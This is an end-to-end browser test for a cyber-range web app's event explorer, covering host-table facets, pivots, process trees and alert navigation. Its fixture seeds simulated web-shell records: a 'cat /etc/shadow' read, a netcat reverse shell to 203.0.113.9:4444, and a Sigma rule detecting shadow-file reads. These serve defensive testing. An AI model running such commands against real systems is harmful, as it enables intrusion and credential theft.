"""The host tables in the workspace's explorer, in a real browser (Debian's Chromium through
Playwright, as in tests/e2e), against the web app served from this process over a paused session
of 'smoke' whose team store also holds a web shell's host records (process_creation,
network_connection, syslog), as a node would log them:

- a host table is in the table select; its facets are the node (``host``), ``User``...;
- a host record's document view has the host pivots (processes on the node, each host table ±1 min
  on it, its connections) and none of a Zeek record's (packets, uid);
- "Its process tree": the ancestors (by ParentProcessId, the nearest earlier record on the same
  node) and the children; opening a child opens its document and its own tree;
- "Its connections" finds the process's network_connection record;
- an alert on host records opens, from the Alerts tab, the processes on its node and the tree of
  its event's process.
"""
from __future__ import annotations

import re

import pytest

from range import sessions
from range.events import EventStore
from tests.conftest import app_over_fresh_state
from tests.e2e.test_e2e_browser import WAIT_MS
from tests.web.common import basic, serving, set_clock, team_page

SESSION = "proctree"
SHADOW_RULE = """title: Shadow file read by the web server's user
id: 5f0c7a64-2d1e-4b8a-9c3f-0a1b2c3d4e5f
status: experimental
logsource:
  product: linux
  category: process_creation
detection:
  selection:
    CommandLine|contains: /etc/shadow
  condition: selection
level: high
"""


def host_records(path, now: float) -> None:
    """On 'portal': nginx (812, not recorded: it started before the records) -> sh -c (4101) ->
    bash (4102) -> cat /etc/shadow (4103) and a reverse shell (4104) that connects out; an earlier
    process with pid 4101 on the same node and a pid 4102 on another node, which the tree must not
    take; on 'files', sshd's syslog line."""
    t = now - 40
    web = {"host": "portal", "User": "www-data", "CurrentDirectory": "/var/www/html"}
    s = EventStore(path)
    s.add("process_creation", [
        {"ts": t - 90, "host": "portal", "ProcessId": 4101, "Image": "/usr/bin/logrotate", "User": "root",
         "CommandLine": "logrotate /etc/logrotate.conf", "ParentProcessId": 1, "ParentImage": "/sbin/init"},
        {"ts": t - 20, "host": "files", "ProcessId": 4102, "Image": "/usr/bin/tar", "User": "backup",
         "CommandLine": "tar czf /srv/home.tgz /home", "ParentProcessId": 690, "ParentImage": "/usr/sbin/cron"},
        {"ts": t, "ProcessId": 4101, "Image": "/usr/bin/dash", "CommandLine": "sh -c 'bash -i'", **web,
         "ParentProcessId": 812, "ParentImage": "/usr/sbin/nginx", "ParentCommandLine": "nginx: worker process"},
        {"ts": t + 1, "ProcessId": 4102, "Image": "/usr/bin/bash", "CommandLine": "bash -i", **web,
         "ParentProcessId": 4101, "ParentImage": "/usr/bin/dash", "ParentCommandLine": "sh -c 'bash -i'"},
        {"ts": t + 2, "ProcessId": 4103, "Image": "/usr/bin/cat", "CommandLine": "cat /etc/shadow", **web,
         "ParentProcessId": 4102, "ParentImage": "/usr/bin/bash", "ParentCommandLine": "bash -i"},
        {"ts": t + 3, "ProcessId": 4104, "Image": "/usr/bin/nc", "CommandLine": "nc 203.0.113.9 4444", **web,
         "ParentProcessId": 4102, "ParentImage": "/usr/bin/bash", "ParentCommandLine": "bash -i"},
    ])
    s.add("network_connection", [
        {"ts": t + 3.2, "host": "portal", "ProcessId": 4104, "Image": "/usr/bin/nc", "User": "www-data",
         "Protocol": "tcp", "Initiated": "true", "SourceIp": "10.1.1.5", "SourcePort": 51234,
         "DestinationIp": "203.0.113.9", "DestinationPort": 4444},
        {"ts": t + 5, "host": "files", "ProcessId": 2211, "Image": "/usr/sbin/sshd", "User": "root",
         "Protocol": "tcp", "Initiated": "false", "SourceIp": "10.1.1.7", "SourcePort": 22,
         "DestinationIp": "203.0.113.9", "DestinationPort": 40022},
    ])
    s.add("syslog", [
        {"ts": t + 6, "host": "files", "facility": "auth", "severity": "info", "program": "sshd", "pid": 2211,
         "message": "Failed password for root from 203.0.113.9 port 40022 ssh2"},
    ])
    s.db.execute("UPDATE process_creation SET _seen = ts")
    s.db.execute("UPDATE network_connection SET _seen = ts")
    s.db.execute("UPDATE syslog SET _seen = ts")
    s.close()


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    """The app on a free local port, a session of 'smoke' for team blue paused at 60 s, with the
    host records in its store and a deployed rule that raised an alert on one of them."""
    app, store, password, mp = app_over_fresh_state(tmp_path_factory, SSE_MIN_INTERVAL=0, SSE_WAIT=0.05)
    env = {"app": app, "store": store, "driver": app.extensions["cyberrange"].driver, "password": password}
    team_pw = sessions.create_session(store, SESSION, "smoke", ["blue"], speed=20)["teams"]["blue"]
    now = set_clock(env, SESSION, 60)
    host_records(store.team_dir(SESSION, "blue").events, now)
    c = app.test_client()
    r = c.post(f"/api/sessions/{SESSION}/teams/blue/rules", headers=basic(f"{SESSION}/blue", team_pw),
               json={"yaml": SHADOW_RULE})
    assert r.status_code in (200, 201), r.json
    set_clock(env, SESSION, 62)
    try:
        with serving(app) as base:
            yield {**env, "base": base, "team_pw": team_pw}
    finally:
        mp.undo()


@pytest.fixture(scope="module")
def page(served):
    with team_page(served["base"], SESSION, "blue", served["team_pw"]) as pg:
        yield pg


def rows(page):
    return page.get_by_test_id("event-row")


def doc_field(page, field):
    return page.get_by_test_id("event-doc").locator(f'[data-testid="doc-field"][data-field="{field}"] td').first


@pytest.mark.e2e  # a real browser: left out of scripts/test --fast with the other browser tests
def test_host_tables_facets_pivots_tree_and_connections(page):
    from playwright.sync_api import expect

    expect.set_options(timeout=WAIT_MS)
    # -- a host table, its facets ------------------------------------------------------------
    expect(page.locator('[data-testid="event-table"] option[value="process_creation"]')).to_have_count(1)
    page.get_by_test_id("event-table").select_option("process_creation")
    expect(rows(page)).to_have_count(6)
    expect(page).to_have_url(re.compile(r"table=process_creation"))
    facets = page.get_by_test_id("event-facets")
    expect(facets.locator("h4")).to_contain_text(["host", "User", "Image", "ParentImage"])
    expect(facets.locator('[data-testid="facet-value"][data-field="host"]', has_text="portal")).to_contain_text("5")
    expect(facets.locator('[data-testid="facet-value"][data-field="User"]', has_text="www-data")).to_have_count(1)

    # -- a host record's document: host pivots, no packets nor uid ------------------------------
    page.get_by_test_id("event-query").fill('CommandLine:"bash -i"')
    page.get_by_test_id("event-apply").click()
    expect(rows(page)).to_have_count(1)
    rows(page).first.click()
    doc = page.get_by_test_id("event-doc")
    expect(doc).to_be_visible()
    expect(page.get_by_test_id("doc-cite")).to_have_text("process_creation:4")
    pivots = page.get_by_test_id("doc-pivots")
    expect(pivots.get_by_test_id("pivot-packets")).to_have_count(0)
    expect(pivots.locator('[data-testid^="pivot-uid-"]')).to_have_count(0)
    for testid in ("pivot-tree", "pivot-connections", "pivot-files", "pivot-host-processes", "pivot-around",
                   *(f"pivot-host-around-{t}" for t in ("process_creation", "file_event", "network_connection",
                                                        "auditd", "syslog"))):
        expect(pivots.get_by_test_id(testid)).to_have_count(1)
    expect(pivots.get_by_test_id("pivot-host-conn")).to_have_count(0)   # a process record has no address

    # -- its process tree: the parent (not the earlier pid 4101), the unrecorded nginx, the children
    pivots.get_by_test_id("pivot-tree").click()
    tree = page.get_by_test_id("proc-tree")
    expect(tree.get_by_test_id("tree-self")).to_contain_text("/usr/bin/bash")
    expect(tree.get_by_test_id("tree-ancestor")).to_have_count(1)
    expect(tree.get_by_test_id("tree-ancestor")).to_contain_text("sh -c 'bash -i'")
    expect(tree.get_by_test_id("tree-missing")).to_contain_text("/usr/sbin/nginx")
    expect(tree.get_by_test_id("tree-child")).to_have_count(2)
    expect(tree.get_by_test_id("tree-child").first).to_contain_text("cat /etc/shadow")
    expect(tree.get_by_test_id("tree-child").nth(1)).to_contain_text("nc 203.0.113.9 4444")
    assert "logrotate" not in tree.inner_text()

    # -- opening a child: its document, its tree with bash as parent -----------------------------
    tree.get_by_test_id("tree-child").nth(1).click()
    expect(page.get_by_test_id("doc-cite")).to_have_text("process_creation:6")
    expect(doc_field(page, "CommandLine")).to_have_text("nc 203.0.113.9 4444")
    expect(tree.get_by_test_id("tree-self")).to_contain_text("/usr/bin/nc")
    expect(tree.get_by_test_id("tree-ancestor")).to_have_count(2)
    expect(tree.get_by_test_id("tree-ancestor").nth(1)).to_contain_text("/usr/bin/bash")
    expect(tree.get_by_test_id("tree-no-children")).to_have_count(1)
    # and back up to the parent from the tree
    tree.get_by_test_id("tree-ancestor").nth(1).click()
    expect(page.get_by_test_id("doc-cite")).to_have_text("process_creation:4")
    expect(tree.get_by_test_id("tree-child")).to_have_count(2)

    # -- its connections: the reverse shell's network_connection record --------------------------
    tree.get_by_test_id("tree-child").nth(1).click()
    expect(page.get_by_test_id("doc-cite")).to_have_text("process_creation:6")
    page.get_by_test_id("doc-pivots").get_by_test_id("pivot-connections").click()
    expect(page.get_by_test_id("event-table")).to_have_value("network_connection")
    expect(rows(page)).to_have_count(1)
    expect(rows(page).first).to_contain_text("203.0.113.9")
    expect(rows(page).first).to_contain_text("4444")
    rows(page).first.click()
    pivots = page.get_by_test_id("doc-pivots")
    expect(page.get_by_test_id("doc-cite")).to_have_text("network_connection:1")
    expect(pivots.get_by_test_id("pivot-packets")).to_have_count(0)
    expect(pivots.get_by_test_id("pivot-host-conn")).to_contain_text("10.1.1.5")
    expect(pivots.get_by_test_id("pivot-netconn-conn")).to_have_count(1)
    # its process: back to the process_creation record of pid 4104, with its tree
    pivots.get_by_test_id("pivot-process").click()
    expect(page.get_by_test_id("event-table")).to_have_value("process_creation")
    expect(page.get_by_test_id("doc-cite")).to_have_text("process_creation:6")
    expect(tree.get_by_test_id("tree-self")).to_contain_text("/usr/bin/nc")
    # conn from this host: Zeek's conn with the record's address as originator
    page.get_by_test_id("event-table").select_option("network_connection")
    rows(page).last.click()
    page.get_by_test_id("doc-pivots").get_by_test_id("pivot-host-conn").click()
    expect(page.get_by_test_id("event-table")).to_have_value("conn")
    expect(page.get_by_test_id("event-query")).to_have_value('id.orig_h:"10.1.1.5"')

    # -- another host table: syslog's facets and the host pivots ---------------------------------
    page.get_by_test_id("event-table").select_option("syslog")
    expect(rows(page)).to_have_count(1)
    expect(facets.locator("h4")).to_contain_text(["host", "program", "facility"])
    rows(page).first.click()
    pivots = page.get_by_test_id("doc-pivots")
    expect(pivots.get_by_test_id("pivot-packets")).to_have_count(0)
    expect(pivots.get_by_test_id("pivot-host-processes")).to_have_text("Processes on files")
    pivots.get_by_test_id("pivot-host-around-network_connection").click()
    expect(page.get_by_test_id("event-table")).to_have_value("network_connection")
    expect(page.get_by_test_id("event-query")).to_have_value('host:"files"')
    expect(rows(page)).to_have_count(1)
    # the syslog line's pid has no process_creation record on files: a note, and files' processes
    page.get_by_test_id("event-table").select_option("syslog")
    rows(page).first.click()
    page.get_by_test_id("doc-pivots").get_by_test_id("pivot-process").click()
    expect(page.get_by_test_id("tree-note")).to_contain_text("pid 2211 on files")
    expect(rows(page)).to_have_count(1)
    expect(rows(page).first).to_contain_text("/usr/bin/tar")


@pytest.mark.e2e
def test_from_an_alert_to_the_process_tree_of_its_node(page):
    from playwright.sync_api import expect

    expect.set_options(timeout=WAIT_MS)
    page.get_by_test_id("tab-alerts").click()
    alert = page.get_by_test_id("alert").filter(has_text="Shadow file read")
    expect(alert).to_have_count(1)
    alert.locator("summary").click()
    button = alert.get_by_test_id("alert-proctree")
    expect(button).to_have_text("Process tree on portal")
    button.click()
    expect(page.get_by_test_id("tab-events")).to_have_attribute("aria-selected", "true")
    expect(page.get_by_test_id("event-table")).to_have_value("process_creation")
    expect(page.get_by_test_id("event-query")).to_have_value('host:"portal"')
    expect(rows(page)).to_have_count(4)   # the web shell's processes within a minute; not the earlier logrotate
    expect(page.get_by_test_id("doc-cite")).to_have_text("process_creation:5")
    tree = page.get_by_test_id("proc-tree")
    expect(tree.get_by_test_id("tree-self")).to_contain_text("cat /etc/shadow")
    expect(tree.get_by_test_id("tree-ancestor")).to_have_count(2)
    expect(page.locator("tr.open")).to_have_count(1)
    expect(page.locator("tr.open")).to_contain_text("cat /etc/shadow")
